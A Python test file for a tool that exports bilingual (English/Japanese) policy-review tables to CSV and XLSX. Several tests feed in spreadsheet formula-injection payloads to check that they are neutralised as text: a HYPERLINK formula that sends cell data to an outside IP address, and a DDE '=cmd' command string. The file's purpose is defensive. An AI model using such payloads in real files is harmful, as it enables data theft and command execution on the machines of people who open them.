from __future__ import annotations

import csv

import pytest
from openpyxl import load_workbook
from tests.interchange.tables import candidate, practice

from kakehashi.interchange.review_table import (
    harmless,
    table_rows,
    write_csv,
    write_xlsx,
)
from kakehashi.interchange.statement_words import KIND_WORDS, SIGN_WORDS
from kakehashi.interchange.table_columns import ANSWERS, COLUMNS, QUOTES
from kakehashi.matching.signs import SIGNS
from kakehashi.model.statement import StatementKind

HOSTILE = [
    '=HYPERLINK("http://192.0.2.1/?"&A1)',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM",
]


def rows_of(*quotes: str, language="en"):
    found = [candidate(quote, rank=rank) for rank, quote in enumerate(quotes, start=1)]
    return table_rows([practice("GOV-01")], {"practices:GOV-01": found}, {}, {}, language)


def csv_cells(path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def test_practices_with_candidates_come_first_and_none_is_left_out():
    practices = [practice("GOV-01"), practice("GOV-02"), practice("GOV-03")]
    rows = table_rows(practices, {"practices:GOV-02": [candidate("x")]}, {}, {}, "en")

    assert [row["practice"] for row in rows] == ["GOV-02", "GOV-01", "GOV-03"]


def test_a_row_shows_the_best_quotes_with_their_places_and_looks():
    shown = candidate("the log;", stem="The board reviews:", page=3, signs=("planned", "others"))
    (row,) = table_rows([practice("GOV-01")], {"practices:GOV-01": [shown]}, {}, {}, "ja")

    assert row["quote_1"] == "[The board reviews:] the log;"
    assert row["where_1"] == "policy.pdf, p. 3"
    looks = [KIND_WORDS[StatementKind.DONE], SIGN_WORDS["planned"], SIGN_WORDS["others"]]
    assert row["looks_1"] == "; ".join(words.ja for words in looks)


@pytest.mark.parametrize(
    ("kind", "sign"), [(StatementKind.PLANNED, "planned"), (StatementKind.EXCLUDED, "negated")]
)
@pytest.mark.parametrize("language", ["en", "ja"])
def test_what_is_planned_or_excluded_is_shown_as_such_and_said_once(kind, sign, language):
    shown = candidate("a log", signs=(sign,), kind=kind)
    (row,) = table_rows([practice("GOV-01")], {"practices:GOV-01": [shown]}, {}, {}, language)

    assert row["looks_1"] == KIND_WORDS[kind].get(language)


def test_no_more_quotes_are_shown_than_there_are_columns():
    (row,) = rows_of(*(f"quote number {n}" for n in range(QUOTES + 2)))

    assert set(row) <= set(COLUMNS)
    assert row[f"quote_{QUOTES}"] == f"quote number {QUOTES - 1}"


def test_a_table_without_decisions_has_none_filled_in():
    (row,) = rows_of("We log every incident.")

    assert [row.get(key, "") for key in ("decision", "evidence", "by", "on", "why")] == [""] * 5


def test_every_sign_has_words_in_both_languages():
    assert set(SIGN_WORDS) >= set(SIGNS)
    assert all(SIGN_WORDS[sign].en and SIGN_WORDS[sign].ja for sign in SIGNS)


def test_every_kind_of_statement_has_words_in_both_languages():
    assert all(KIND_WORDS[kind].en and KIND_WORDS[kind].ja for kind in StatementKind)


@pytest.mark.parametrize("language", ["en", "ja"])
def test_both_files_hold_the_same_cells(tmp_path, language):
    rows = rows_of("We log every incident.", "当社は、インシデントを記録する。", language=language)
    write_csv(tmp_path / "t.csv", rows, language)
    write_xlsx(tmp_path / "t.xlsx", rows, language, "2026-11-25")

    sheet = load_workbook(tmp_path / "t.xlsx").active
    cells = [[str(v or "") for v in row] for row in sheet.iter_rows(values_only=True)]
    assert cells == csv_cells(tmp_path / "t.csv")
    assert cells[0] == [words.get(language) for words in COLUMNS.values()]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_that_would_be_a_formula_is_made_text_in_csv(tmp_path, cell):
    write_csv(tmp_path / "t.csv", rows_of(cell), "en")

    column = list(COLUMNS).index("quote_1")
    assert csv_cells(tmp_path / "t.csv")[1][column] == f"'{cell}"


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_that_would_be_a_formula_or_link_is_text_in_the_workbook(tmp_path, cell):
    write_xlsx(tmp_path / "t.xlsx", rows_of(cell, "http://192.0.2.1/x"), "en", "2026-11-25")

    sheet = load_workbook(tmp_path / "t.xlsx").active
    assert {c.data_type for row in sheet.iter_rows() for c in row} <= {"s", "n"}
    assert all(c.value is None for row in sheet.iter_rows() for c in row if c.data_type == "n")
    assert [c for row in sheet.iter_rows() for c in row if c.hyperlink] == []


@pytest.mark.parametrize("cell", ["yes", "", "1", "'quoted'", "a=b", "（注）"])
def test_harmless_cells_are_left_alone(cell):
    assert harmless(cell) == cell


def test_names_and_reasons_of_people_are_made_harmless_too(tmp_path):
    (row,) = rows_of()
    write_csv(tmp_path / "t.csv", [row | {"by": "=cmd|' /C calc'!A0", "why": "@x"}], "en")

    cells = dict(zip(COLUMNS, csv_cells(tmp_path / "t.csv")[1], strict=True))
    assert cells["by"].startswith("'=")
    assert cells["why"] == "'@x"


def test_csv_begins_with_a_mark_so_that_spreadsheets_show_japanese(tmp_path):
    write_csv(tmp_path / "t.csv", rows_of(), "ja")

    assert (tmp_path / "t.csv").read_bytes().startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("language", ["en", "ja"])
def test_the_workbook_offers_the_decisions_to_choose_from(tmp_path, language):
    write_xlsx(tmp_path / "t.xlsx", rows_of(), language, "2026-11-25")

    sheet = load_workbook(tmp_path / "t.xlsx").active
    (rule,) = sheet.data_validations.dataValidation
    column = list(COLUMNS).index("decision") + 1
    assert sheet.cell(2, column).coordinate in rule.cells
    assert [words.get(language) for words in ANSWERS.values()] == rule.formula1.strip('"').split(
        ","
    )


def test_the_same_table_gives_the_same_file(tmp_path):
    for name in ("a.xlsx", "b.xlsx"):
        write_xlsx(tmp_path / name, rows_of("We log every incident."), "en", "2026-11-25")

    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()


def test_a_quote_too_long_for_a_cell_of_a_workbook_is_not_lost(tmp_path):
    write_xlsx(tmp_path / "t.xlsx", rows_of("We log it. " * 5000), "en", "2026-11-25")

    sheet = load_workbook(tmp_path / "t.xlsx").active
    assert str(sheet.cell(2, list(COLUMNS).index("quote_1") + 1).value).startswith("We log it.")
